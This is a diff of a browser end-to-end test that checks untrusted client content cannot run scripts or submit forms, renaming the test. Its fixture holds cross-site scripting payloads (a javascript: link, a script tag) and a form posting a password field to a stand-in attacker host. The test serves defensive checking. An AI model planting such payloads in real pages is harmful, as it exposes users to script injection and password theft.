@@ -21,7 +21,7 @@ test('a member without an ID card sees the client content and no form', async ({
   await expectGoodOnAllScreens(page)
 })
 
-test('client content cannot run, submit or embed', async ({ page }) => {
+test('client content cannot run scripts or submit forms', async ({ page }) => {
   const content = `<p id="x">Safe <a href="javascript:alert(1)">words</a></p><script>alert(1)</script>
     <form action="https://evil.example.com"><input name="password"></form>`
   await page.route('/api/clientmember/page', async (route) => {
